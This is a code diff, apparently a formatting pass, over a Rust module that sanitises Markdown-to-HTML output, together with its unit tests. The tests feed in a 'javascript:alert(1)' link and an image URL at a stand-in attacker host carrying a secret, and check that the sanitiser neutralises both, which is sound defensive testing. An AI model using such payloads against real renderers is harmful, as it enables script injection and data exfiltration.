@@ -15,7 +15,8 @@ use super::highlight;
 
 /// `text` as HTML.
 pub fn to_html(text: &str) -> String {
-    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
+    let options =
+        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
     let mut events = Vec::new();
     let mut code: Option<(String, String)> = None; // (language, text) of the open code block
     let mut images: Vec<bool> = Vec::new(); // for each open image: whether it became a link
@@ -23,7 +24,11 @@ pub fn to_html(text: &str) -> String {
         match event {
             Event::Start(Tag::CodeBlock(kind)) => {
                 let lang = match kind {
-                    CodeBlockKind::Fenced(info) => info.split(|c: char| c.is_whitespace() || c == ',').next().unwrap_or("").to_owned(),
+                    CodeBlockKind::Fenced(info) => info
+                        .split(|c: char| c.is_whitespace() || c == ',')
+                        .next()
+                        .unwrap_or("")
+                        .to_owned(),
                     CodeBlockKind::Indented => String::new(),
                 };
                 code = Some((lang, String::new()));
@@ -39,19 +44,50 @@ pub fn to_html(text: &str) -> String {
                 }
             }
             Event::Html(raw) | Event::InlineHtml(raw) => events.push(Event::Text(raw)),
-            Event::Start(Tag::Link { link_type, dest_url, title, id }) => {
-                events.push(Event::Start(Tag::Link { link_type, dest_url: safe_url(dest_url), title, id }));
+            Event::Start(Tag::Link {
+                link_type,
+                dest_url,
+                title,
+                id,
+            }) => {
+                events.push(Event::Start(Tag::Link {
+                    link_type,
+                    dest_url: safe_url(dest_url),
+                    title,
+                    id,
+                }));
             }
-            Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
+            Event::Start(Tag::Image {
+                link_type,
+                dest_url,
+                title,
+                id,
+            }) => {
                 let inline = dest_url.starts_with("data:image/");
                 images.push(!inline);
                 events.push(Event::Start(if inline {
-                    Tag::Image { link_type, dest_url, title, id }
+                    Tag::Image {
+                        link_type,
+                        dest_url,
+                        title,
+                        id,
+                    }
                 } else {
-                    Tag::Link { link_type, dest_url: safe_url(dest_url), title, id }
+                    Tag::Link {
+                        link_type,
+                        dest_url: safe_url(dest_url),
+                        title,
+                        id,
+                    }
                 }));
             }
-            Event::End(TagEnd::Image) => events.push(Event::End(if images.pop().unwrap_or(false) { TagEnd::Link } else { TagEnd::Image })),
+            Event::End(TagEnd::Image) => {
+                events.push(Event::End(if images.pop().unwrap_or(false) {
+                    TagEnd::Link
+                } else {
+                    TagEnd::Image
+                }))
+            }
             other => events.push(other),
         }
     }
@@ -61,12 +97,17 @@ pub fn to_html(text: &str) -> String {
     }
     let mut html = String::with_capacity(text.len() * 3 / 2);
     pulldown_cmark::html::push_html(&mut html, events.into_iter());
-    html.replace("<a href=", "<a target=\"_blank\" rel=\"noopener noreferrer nofollow\" href=")
+    html.replace(
+        "<a href=",
+        "<a target=\"_blank\" rel=\"noopener noreferrer nofollow\" href=",
+    )
 }
 
 fn safe_url(url: CowStr) -> CowStr {
     let lower = url.trim_start().to_ascii_lowercase();
-    let allowed = ["http://", "https://", "mailto:", "#"].iter().any(|p| lower.starts_with(p));
+    let allowed = ["http://", "https://", "mailto:", "#"]
+        .iter()
+        .any(|p| lower.starts_with(p));
     if allowed {
         url
     } else {
@@ -88,7 +129,8 @@ mod tests {
 
     #[test]
     fn markdown_becomes_html() {
-        let html = to_html("# Title\n\nSome **bold** and `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
+        let html =
+            to_html("# Title\n\nSome **bold** and `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
         assert!(html.contains("<h1>Title</h1>"), "{html}");
         assert!(html.contains("<strong>bold</strong>"));
         assert!(html.contains("<code>code</code>"));
@@ -108,20 +150,42 @@ mod tests {
     fn only_safe_links_survive_and_remote_images_never_load() {
         let html = to_html("[a](javascript:alert(1)) [b](https://example.com) ![secret](https://evil.example/?q=s3cret)");
         assert!(!html.contains("javascript:"), "{html}");
-        assert!(html.contains(r#"target="_blank" rel="noopener noreferrer nofollow" href="https://example.com""#), "{html}");
+        assert!(
+            html.contains(
+                r#"target="_blank" rel="noopener noreferrer nofollow" href="https://example.com""#
+            ),
+            "{html}"
+        );
         assert!(!html.contains("<img"), "{html}");
-        assert!(html.contains(r#"href="https://evil.example/?q=s3cret">secret</a>"#), "{html}");
+        assert!(
+            html.contains(r#"href="https://evil.example/?q=s3cret">secret</a>"#),
+            "{html}"
+        );
         let inline = to_html("![dot](data:image/png;base64,iVBORw0KGgo=)");
-        assert!(inline.contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\""), "{inline}");
+        assert!(
+            inline.contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\""),
+            "{inline}"
+        );
     }
 
     #[test]
     fn code_blocks_are_highlighted_with_a_copy_button_even_while_still_streaming() {
         let html = to_html("```rust\nfn main() { let s = \"<b>\"; }\n```\n");
-        assert!(html.contains(r#"<span>rust</span><button type="button" class="copy" data-copy="">Copy</button>"#), "{html}");
+        assert!(
+            html.contains(
+                r#"<span>rust</span><button type="button" class="copy" data-copy="">Copy</button>"#
+            ),
+            "{html}"
+        );
         assert!(html.contains(r#"<span class="tk">fn</span>"#), "{html}");
-        assert!(html.contains(r#"<span class="ts">&quot;&lt;b&gt;&quot;</span>"#), "{html}");
+        assert!(
+            html.contains(r#"<span class="ts">&quot;&lt;b&gt;&quot;</span>"#),
+            "{html}"
+        );
         let open = to_html("Here:\n\n```python\nprint('hi')");
-        assert!(open.contains(r#"<span class="ts">&#39;hi&#39;</span>"#), "{open}");
+        assert!(
+            open.contains(r#"<span class="ts">&#39;hi&#39;</span>"#),
+            "{open}"
+        );
     }
 }
